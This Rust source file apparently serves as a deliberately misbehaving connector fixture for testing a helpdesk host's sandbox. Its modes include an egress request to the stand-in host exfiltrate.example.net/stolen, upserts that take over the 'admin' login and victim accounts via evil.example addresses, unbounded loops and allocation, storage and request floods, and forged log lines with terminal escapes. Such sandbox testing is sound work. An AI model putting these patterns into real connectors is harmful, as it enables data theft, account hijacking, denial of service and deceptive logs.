//! A connector that misbehaves on purpose. `check` does what the setting
//! `behavior` says: `egress` (a request to a host nobody allowed), `loop`
//! (spins forever), `alloc` (allocates without bound), `trap` (panics),
//! `ok` (answers normally, to show the next run is fine), `stderr` (writes
//! forged log lines with terminal escapes to standard error, then panics),
//! `flood-requests` (sends 40 requests to the configured `endpoint` at
//! once, then waits for every answer). `sync` too:
//! `takeover` proposes the login `admin`, the email in the setting
//! `victim_email` and the login in `victim_login`, which belong to users
//! it does not own; `trap` hands over
//! a batch that changes the contact `victim_id` and then panics;
//! `read-files` asks the host to read `first.txt`, `crash.pdf`, on which
//! this reader panics, then `fine.txt`, and logs the answers as warnings;
//! `flood-store` hands over 48 batches of 4 MiB each as fast as it can;
//! `warn-flood` gives a warning with a terminal escape and a line break,
//! then 5,000 warnings of 10 KiB each.

wit_bindgen::generate!({ path: "../../../wit/0.2.0", world: "helpdesk:connector/connector", generate_all });
include!("../../stubs.rs");

use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};

connector_with_check!(Misbehaving, check, run);
impl exports::helpdesk::connector::extract::Guest for Misbehaving {
    fn text_of(_: String, name: String, content: Vec<u8>) -> Result<String, String> {
        match name.as_str() {
            "crash.pdf" => panic!("a parser that panics on a hostile file"),
            _ => Ok(String::from_utf8_lossy(&content).into_owned()),
        }
    }
}

fn setting(config: &Config, key: &str) -> String {
    config.iter().find(|v| v.key == key).map(|v| v.value.clone()).unwrap_or_default()
}

fn upsert(id: &str, login: &str, email: &str) -> Change {
    let user = User {
        login: login.into(),
        email: Some(email.into()),
        firstname: "Mallory".into(),
        lastname: "Takeover".into(),
        phone: "+1 555 0100".into(),
        extra: Vec::new(),
    };
    Change::Upsert(Upsert { external_id: id.into(), version: "m".into(), user })
}

fn run(config: Config, _request: SyncRequest) -> Result<SyncReport, ConnectorError> {
    let folder = setting(&config, "folder_id");
    let batch = |changes| Batch { folder_id: folder.clone(), folder_path: "Contacts".into(), changes, checkpoint: None, listing_complete: false };
    let apply = |b: &Batch| helpdesk::connector::host::apply_batch(b).map_err(|e| error(ErrorKind::Host, e));
    let victim = setting(&config, "victim_email");
    match setting(&config, "behavior").as_str() {
        "takeover" => {
            apply(&batch(vec![
                upsert("mallory-1", "admin", "mallory@evil.example"),
                upsert("mallory-2", "mallory-2@evil.example", &victim),
                upsert("mallory-3", &setting(&config, "victim_login"), "mallory-3@evil.example"),
            ]))?;
            Ok(SyncReport { folders: 1, contacts: 3, batches: 1, documents: 0 })
        }
        "trap" => {
            let id = setting(&config, "victim_id");
            apply(&batch(vec![upsert(&id, "mallory@evil.example", "mallory@evil.example")]))?;
            panic!("a deliberate trap in the middle of a sync")
        }
        "flood-store" => {
            // One user per batch, its 4 MiB in custom fields.
            for n in 0..48 {
                let mut change = upsert(&format!("flood-{n}"), &format!("flood-{n}@example.org"), &format!("flood-{n}@example.org"));
                if let Change::Upsert(u) = &mut change {
                    u.user.extra = (0..4).map(|k| Attribute { key: format!("blob{k}"), value: "x".repeat(1 << 20) }).collect();
                }
                apply(&batch(vec![change]))?;
            }
            Ok(SyncReport { folders: 1, contacts: 48, batches: 48, documents: 0 })
        }
        "warn-flood" => {
            helpdesk::connector::host::log(helpdesk::connector::host::LogLevel::Warn, "\x1b[2Jcleared\n2026-12-06T00:00:00Z  INFO forged");
            let long = "w".repeat(10 << 10);
            for n in 0..5000 {
                helpdesk::connector::host::log(helpdesk::connector::host::LogLevel::Warn, &format!("warning {n}: {long}"));
            }
            Ok(SyncReport { folders: 0, contacts: 0, batches: 0, documents: 0 })
        }
        "read-files" => {
            for name in ["first.txt", "crash.pdf", "fine.txt"] {
                let answer = helpdesk::connector::host::extract_text("application/pdf", name, b"hello");
                helpdesk::connector::host::log(helpdesk::connector::host::LogLevel::Warn, &format!("{name}: {answer:?}"));
            }
            Ok(SyncReport { folders: 0, contacts: 0, batches: 0, documents: 1 })
        }
        _ => Ok(SyncReport { folders: 0, contacts: 0, batches: 0, documents: 0 }),
    }
}

fn error(kind: ErrorKind, message: String) -> ConnectorError {
    ConnectorError { kind, message }
}

fn check(config: Config) -> Result<ServerInfo, ConnectorError> {
    match setting(&config, "behavior").as_str() {
        "egress" => {
            let request = OutgoingRequest::new(Fields::new());
            let _ = request.set_method(&Method::Get);
            let _ = request.set_scheme(Some(&Scheme::Http));
            let _ = request.set_authority(Some("exfiltrate.example.net"));
            let _ = request.set_path_with_query(Some("/stolen"));
            let future = outgoing_handler::handle(request, None).map_err(|e| error(ErrorKind::AccessDenied, format!("{e:?}")))?;
            future.subscribe().block();
            match future.get() {
                Some(Ok(Ok(_))) => Ok(ServerInfo { product: "reached".into(), version: String::new(), endpoint: String::new() }),
                Some(Ok(Err(code))) => Err(error(ErrorKind::AccessDenied, format!("{code:?}"))),
                _ => Err(error(ErrorKind::Protocol, "no response".into())),
            }
        }
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "trap" => panic!("a deliberate trap"),
        "stderr" => {
            use std::io::Write;
            let mut stderr = std::io::stderr();
            let _ = stderr.write_all(b"\x1b[2J\x1b[31m2026-12-06T00:00:00Z ERROR helpdesk_host: forged\r\n");
            let _ = stderr.write_all(b"2026-12-06T00:00:01Z  INFO helpdesk_host: all users deleted\n");
            panic!("gone \x1b[0m quietly")
        }
        "flood-requests" => {
            let endpoint = setting(&config, "endpoint");
            let (scheme, rest) = endpoint.split_once("://").unwrap_or(("http", &endpoint));
            let (authority, path) = rest.split_once('/').map_or((rest, "/".to_string()), |(a, p)| (a, format!("/{p}")));
            let futures: Vec<_> = (0..40)
                .map(|_| {
                    let request = OutgoingRequest::new(Fields::new());
                    let _ = request.set_method(&Method::Get);
                    let _ = request.set_scheme(Some(if scheme == "https" { &Scheme::Https } else { &Scheme::Http }));
                    let _ = request.set_authority(Some(authority));
                    let _ = request.set_path_with_query(Some(&path));
                    outgoing_handler::handle(request, None).map_err(|e| error(ErrorKind::Unreachable, format!("{e:?}")))
                })
                .collect::<Result<_, _>>()?;
            let mut answered = 0;
            for future in futures {
                future.subscribe().block();
                if let Some(Ok(Ok(response))) = future.get() {
                    // Read the answer whole: only then is the request done.
                    let body = response.consume().map_err(|_| error(ErrorKind::Protocol, "no body".into()))?;
                    let stream = body.stream().map_err(|_| error(ErrorKind::Protocol, "no stream".into()))?;
                    while stream.blocking_read(1 << 16).is_ok() {}
                    answered += 1;
                }
            }
            Ok(ServerInfo { product: format!("answered {answered}"), version: String::new(), endpoint: String::new() })
        }
        _ => Ok(ServerInfo { product: "fine".into(), version: "1".into(), endpoint: String::new() }),
    }
}
